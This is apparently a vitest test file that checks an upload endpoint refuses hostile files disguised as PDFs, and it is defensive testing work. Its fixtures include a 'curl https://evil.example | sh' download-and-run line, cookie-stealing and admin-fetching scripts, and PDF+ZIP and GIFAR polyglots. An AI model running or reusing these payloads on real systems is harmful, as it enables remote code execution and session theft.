/**
 * Hostile document files: each refused with a message in words (415, or 413 over the upload limit), nothing
 * stored and no file left behind; a PDF that is really one is served so that it can never run in our origin.
 */
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import PDFDocument from 'pdfkit';
import sharp from 'sharp';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Asset, AssetDocument } from '@harbour/contract';
import { pdfPart, uploadDocument } from '../test/document-api';
import type { FilePart } from '../test/multipart';
import { ACTIVE_PAYLOADS, AMBIGUOUS_PDFS, DISGUISED_PDFS, HIDINGS } from '../test/hostile-pdfs';
import { legitimatePdfs } from '../test/legitimate-pdfs';
import { HOSTILE_PDFS, plainPdf } from '../test/pdfs';
import { snapshotState, type StateSnapshot } from '../test/state-snapshot';
import { bearer, createTestApp, type TestApp } from '../test/test-app';

let t: TestApp;
let asset: Asset;
let privateTmp: string;
const realTmpdir = process.env.TMPDIR;

beforeAll(async () => {
  t = await createTestApp({ UPLOAD_LIMIT_MB: '1' });
  asset = await t.createAsset({ name: 'EPIRB 4', type: 'EPIRB', location: 'Bridge' });
  privateTmp = mkdtempSync(path.join(tmpdir(), 'harbour-documents-tmp-'));
  process.env.TMPDIR = privateTmp;
});
afterAll(async () => {
  if (realTmpdir === undefined) delete process.env.TMPDIR;
  else process.env.TMPDIR = realTmpdir;
  await t.close();
  rmSync(privateTmp, { recursive: true, force: true });
});

let before: StateSnapshot;
beforeEach(async () => {
  before = await snapshotState(t.db.kysely);
});

async function expectRefused(file: FilePart, status: number, message: RegExp) {
  const res = await uploadDocument(t, asset._id, { kind: 'certificate', expiresOn: '2030-01-01' }, file);
  expect(res.statusCode, res.body).toBe(status);
  const body = res.json<{ message: string; msg: string }>();
  expect(body.message).toMatch(message);
  expect(body.msg).toBe(body.message);
  expect(await snapshotState(t.db.kysely)).toEqual(before);
  expect(readdirSync(privateTmp)).toEqual([]);
}

const realPdf = () =>
  new Promise<Buffer>((resolve) => {
    const doc = new PDFDocument();
    const chunks: Buffer[] = [];
    doc.on('data', (chunk: Buffer) => chunks.push(chunk));
    doc.on('end', () => resolve(Buffer.concat(chunks)));
    doc.text('Certificate of annual service: liferaft LR-12');
    doc.end();
  });
const gif = () =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: '#0a5' } })
    .gif()
    .toBuffer();
const zip = Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00payload/Exploit.class', 'latin1');

describe('hostile document files', () => {
  it.each([
    [
      'an HTML page named .pdf',
      Buffer.from('<!doctype html><html><script>fetch("/api/admin/users")</script></html>'),
    ],
    ['a script named .pdf', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')],
    ['JavaScript named .pdf', Buffer.from('alert(document.cookie)')],
    [
      'a Windows program named .pdf',
      Buffer.from('MZ\x90\x00\x03 This program cannot be run in DOS mode', 'latin1'),
    ],
  ])('refuses %s with 415', async (_label, bytes) => {
    await expectRefused(pdfPart(bytes), 415, /must be a PDF or a picture/);
  });

  it.each(HOSTILE_PDFS)('refuses a PDF with %s with 415', async (_label, bytes, message) => {
    await expectRefused(pdfPart(bytes), 415, message);
  });

  const hidden = HIDINGS.slice(1).flatMap(([hiding, hide]) =>
    ACTIVE_PAYLOADS.map(([label, build, message]): [string, () => Buffer, RegExp] => [
      `${label} ${hiding}`,
      () => build(hide),
      message,
    ]),
  );
  it.each(hidden)('refuses a PDF with %s with 415', async (_label, build, message) => {
    await expectRefused(pdfPart(build()), 415, message);
  });

  it.each(DISGUISED_PDFS)('refuses a PDF with %s with 415', async (_label, bytes, message) => {
    await expectRefused(pdfPart(bytes), 415, message);
  });

  it.each(AMBIGUOUS_PDFS)('refuses a PDF with %s as damaged with 415', async (_label, bytes) => {
    await expectRefused(pdfPart(bytes), 415, /damaged or incomplete/);
  });

  it('keeps legitimate PDFs as sent: the product’s own and certificates as common writers make them', async () => {
    for (const [label, bytes] of await legitimatePdfs()) {
      const res = await uploadDocument(t, asset._id, { kind: 'certificate' }, pdfPart(bytes, 'kept.pdf'));
      expect(res.statusCode, `${label}: ${res.body}`).toBe(201);
      const served = await t.server.inject({
        url: res.json<AssetDocument>().url,
        headers: bearer(t.adminToken),
      });
      expect(served.rawPayload.equals(bytes), label).toBe(true);
    }
  });

  it('keeps a round report the product made', async () => {
    const admin = { authorization: `Bearer ${t.adminToken}` };
    const created = await t.server.inject({
      method: 'POST',
      url: '/api/rounds',
      headers: admin,
      payload: { name: 'Bridge audit', kind: 'audit', scope: { locations: ['Bridge'] } },
    });
    expect(created.statusCode, created.body).toBe(201);
    const roundId = created.json<{ _id: string }>()._id;
    const marked = await t.server.inject({
      method: 'POST',
      url: `/api/rounds/${roundId}/marks`,
      headers: admin,
      payload: { assetId: asset._id },
    });
    expect(marked.statusCode, marked.body).toBe(200);
    await t.server.inject({ method: 'POST', url: `/api/rounds/${roundId}/finish`, headers: admin });
    const report = await t.server.inject({ url: `/api/rounds/${roundId}/report?format=pdf`, headers: admin });
    expect(report.headers['content-type']).toBe('application/pdf');
    const res = await uploadDocument(
      t,
      asset._id,
      { kind: 'certificate' },
      pdfPart(report.rawPayload, 'round.pdf'),
    );
    expect(res.statusCode, res.body).toBe(201);
  });

  it('refuses a truncated PDF', async () => {
    const whole = await realPdf();
    await expectRefused(
      pdfPart(whole.subarray(0, Math.floor(whole.length / 2))),
      415,
      /damaged or incomplete/,
    );
  });

  it('refuses a PDF with an archive after its end (a PDF+ZIP polyglot)', async () => {
    await expectRefused(pdfPart(Buffer.concat([await realPdf(), zip])), 415, /data after its end/);
  });

  it('refuses a GIF that is also a Java archive (GIFAR)', async () => {
    await expectRefused(pdfPart(Buffer.concat([await gif(), zip]), 'photo.gif', 'image/gif'), 415, /archive/);
  });

  it('refuses markup that starts like a PDF but has no PDF structure', async () => {
    const fake = Buffer.from('%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n');
    await expectRefused(pdfPart(fake), 415, /damaged or incomplete/);
  });

  it('refuses a file over the upload limit with 413', async () => {
    const big = Buffer.concat([plainPdf(), Buffer.alloc(1024 * 1024 + 1, 0x20)]);
    await expectRefused(pdfPart(big), 413, /larger than the upload limit/);
  });

  it('refuses an empty file', async () => {
    await expectRefused(pdfPart(Buffer.alloc(0), 'empty.pdf'), 400, /empty/);
  });

  it('keeps a real PDF made by a PDF library and serves it as an attachment in a sandbox', async () => {
    const bytes = await realPdf();
    const res = await uploadDocument(t, asset._id, { kind: 'certificate' }, pdfPart(bytes, 'service.pdf'));
    expect(res.statusCode, res.body).toBe(201);
    const served = await t.server.inject({
      url: res.json<AssetDocument>().url,
      headers: bearer(t.adminToken),
    });
    expect(served.rawPayload.equals(bytes)).toBe(true);
    expect(served.headers['content-disposition']).toMatch(/^attachment;/);
    expect(served.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
    expect(served.headers['x-content-type-options']).toBe('nosniff');
  });
});
